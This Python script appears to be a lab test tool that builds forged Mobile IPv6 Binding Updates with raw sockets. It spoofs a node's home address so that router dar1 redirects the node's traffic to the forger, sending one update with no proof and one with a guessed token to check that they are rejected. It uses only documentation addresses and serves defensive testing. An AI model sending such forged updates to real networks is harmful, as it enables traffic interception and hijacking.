# SPDX-License-Identifier: GPL-2.0-only
"""Binding Updates of somebody who would like to have the packages of the lab's node: "fama lab
forge" runs this at the correspondent, cn.

They name the home address of the node as dar1 knows it, and cn as the place where the node is.
The forger knows all that can be seen on the path, and neither the node's key nor its token.
Addresses are those of the lab and nothing else, and no other network has such addresses.
"""

import json
import os
import socket
import struct
import subprocess
import sys
import time

ROUTER, FORGER = (socket.inet_pton(socket.AF_INET6, text) for text in
                  ("2001:db8:1::1", "2001:db8:c::2"))
MOBILITY, DESTINATION_OPTIONS, NOTHING = 135, 60, 59
BINDING_UPDATE, ACKNOWLEDGE_AND_HOME, LIFETIME = 5, 0xc000, 3600 // 4
# RFC 6275: 6.2.5 and 6.2.7, with the padding before them.
CAREOF = bytes([1, 0, 3, 16]) + FORGER
GUESS = bytes([1, 0, 5, 12]) + b"I guess this"


def victim():
    """(home address, sequence number) of a binding at dar1."""
    said = subprocess.run([os.environ["FAMA"], "-n", "dar1", "-j", "dar", "binding"], check=True,
                          stdout=subprocess.PIPE).stdout
    for binding in json.loads(said):
        return socket.inet_pton(socket.AF_INET6, binding["home"]), binding["seq"]
    sys.exit("fama: lab: dar1 has no binding: move the node away from it (fama lab move dar2)")


def checksum(home, message):
    """RFC 6275 section 6.1.1: as if the node had sent it from home."""
    text = home + ROUTER + struct.pack(">II", len(message), MOBILITY) + message
    total = sum(struct.unpack(f">{len(text) // 2}H", text))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def update(home, sequence, proof):
    """The whole packet, with the Home Address option."""
    body = struct.pack(">HHH", sequence, ACKNOWLEDGE_AND_HOME, LIFETIME) + CAREOF + proof
    head = struct.pack(">BBBB", NOTHING, (len(body) + 6) // 8 - 1, BINDING_UPDATE, 0)
    message = head + bytes(2) + body
    message = head + struct.pack(">H", checksum(home, message)) + body
    options = bytes([MOBILITY, 2, 1, 2, 0, 0, 0xc9, 16]) + home
    return struct.pack(">IHBB", 6 << 28, len(options + message), DESTINATION_OPTIONS, 64) + \
        FORGER + ROUTER + options + message


def main():
    home, sequence = victim()
    with socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW) as wire:
        for name, proof in (("no proof", b""), ("a guessed token", GUESS)):
            sequence = (sequence + 1) & 0xffff
            wire.sendto(update(home, sequence, proof), (socket.inet_ntop(socket.AF_INET6, ROUTER), 0))
            print(f"lab: cn tells dar1 that {socket.inet_ntop(socket.AF_INET6, home)} is at "
                  f"{socket.inet_ntop(socket.AF_INET6, FORGER)} now, with {name}")
    # The router is 10 ms away.
    time.sleep(0.1)


if __name__ == "__main__":
    main()
